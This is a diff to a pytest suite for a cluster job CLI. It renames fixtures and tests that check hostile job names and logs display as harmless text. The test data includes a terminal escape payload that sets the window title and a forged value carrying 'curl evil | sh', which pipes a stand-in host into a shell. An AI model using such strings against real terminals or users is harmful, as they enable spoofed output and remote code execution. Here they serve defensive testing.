@@ -54,10 +54,10 @@ FORBIDDEN = [f"\x1b{c}" for c in "]P_^Xc"] + [
 
 
 @pytest.fixture
-def job(here: Session, cluster: PlayedCluster, tmp_path: Path) -> str:
+def job(played_session: Session, cluster: PlayedCluster, tmp_path: Path) -> str:
     """A job that failed, with a hostile name, log and file."""
     job_id = submitted(
-        here,
+        played_session,
         tmp_path,
         rf"{BODY}; mkfifo {TITLE!r}; exit 3".replace(repr(TITLE), r"$'\e]0;owned\a'"),
     )
@@ -130,8 +130,10 @@ def is_harmless(shown: str) -> bool:
     ]
 
 
-def test_hostile_name_is_text_on_a_terminal(job: str, here: Session, on_terminal: Run) -> None:
-    entry = here.ledger.find(job)
+def test_hostile_name_is_text_on_a_terminal(
+    job: str, played_session: Session, on_terminal: Run
+) -> None:
+    entry = played_session.ledger.find(job)
     assert entry is not None
     for words in (
         ["jobs"],
@@ -165,7 +167,7 @@ def test_json_has_names_and_logs_as_they_are(
     assert {one["stream"]: one["text"] for one in logs} == {"stdout": LOG, "stderr": LOG}
 
 
-def test_colors_and_progress_of_logs_stay_and_all_else_is_text(
+def test_logs_show_colors_and_progress_and_all_else_as_text(
     job: str, on_terminal: Run, capfdbinary: pytest.CaptureFixture[bytes]
 ) -> None:
     """Bytes as they are, only with --raw, and never on a terminal."""
@@ -181,15 +183,15 @@ def test_colors_and_progress_of_logs_stay_and_all_else_is_text(
         assert "\x1b[0m" in shown[shown.rindex("[31mred") :]
     for words, log in ((["logs", job], LOG_SHOWN), (["logs", "--raw", job], LOG)):
         app(words, prog_name="clusterctl", standalone_mode=False)
-        said = capfdbinary.readouterr()
-        assert said.out == log.encode()
+        streams = capfdbinary.readouterr()
+        assert streams.out == log.encode()
         # After what the job wrote comes why it failed, but not among unchanged bytes.
-        assert said.err.startswith(log.encode())
-        assert (b"exit code 3" in said.err) is ("--raw" not in words)
+        assert streams.err.startswith(log.encode())
+        assert (b"exit code 3" in streams.err) is ("--raw" not in words)
 
 
 def test_error_of_a_followed_job_has_no_log(
-    here: Session, tmp_path: Path, on_terminal: Run
+    played_session: Session, tmp_path: Path, on_terminal: Run
 ) -> None:
     script = tmp_path / "mine.sh"
     script.write_text(f"#!/bin/bash\n{BODY}\nexit 3\n")
@@ -220,7 +222,7 @@ def test_notes_never_share_line_or_color_of_a_log(on_terminal: Run) -> None:
     )
 
 
-def test_values_have_no_second_line(on_terminal: Run) -> None:
+def test_table_values_stay_on_one_line(on_terminal: Run) -> None:
     """What a person sees of names with newlines: they forge no line, and no column."""
     screen = Screen(json=False, color=True)
     forged = "x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
@@ -247,7 +249,7 @@ def test_values_have_no_second_line(on_terminal: Run) -> None:
     ]
 
 
-def test_what_moves_is_text_too(on_terminal: Run) -> None:
+def test_progress_displays_show_hostile_names_as_text(on_terminal: Run) -> None:
     screen = Screen(json=False, color=True)
 
     def call() -> None:
@@ -268,7 +270,7 @@ def test_what_moves_is_text_too(on_terminal: Run) -> None:
         assert f"{what}{NAME_SHOWN}" in shown
 
 
-def test_script_is_kept_as_it_is_but_for_a_terminal(
+def test_dry_run_script_is_filtered_for_a_terminal_only(
     on_terminal: Run, capfdbinary: pytest.CaptureFixture[bytes]
 ) -> None:
     script = f"#!/bin/bash\n\techo '{TITLE}'\n"
@@ -281,7 +283,7 @@ def test_script_is_kept_as_it_is_but_for_a_terminal(
     )
 
 
-def test_verbs_write_through_the_screen_alone() -> None:
+def test_verbs_write_through_the_screen_only() -> None:
     writes = re.compile(
         r"\bprint\(|\bstd(out|err)\.(buffer|write)|\bConsole\(|__std(out|err)__|os\.write\("
     )
@@ -305,7 +307,7 @@ def test_answer_in_json_has_the_end_of_logs_without_end() -> None:
     ]
 
 
-def test_each_line_has_its_rank() -> None:
+def test_label_option_prefixes_each_line_with_its_rank() -> None:
     shown: list[bytes] = []
     with labelled(lambda chunk: shown.append(chunk.data)) as show:
         show(LogChunk("stdout", None, b"one\ntw", 0))
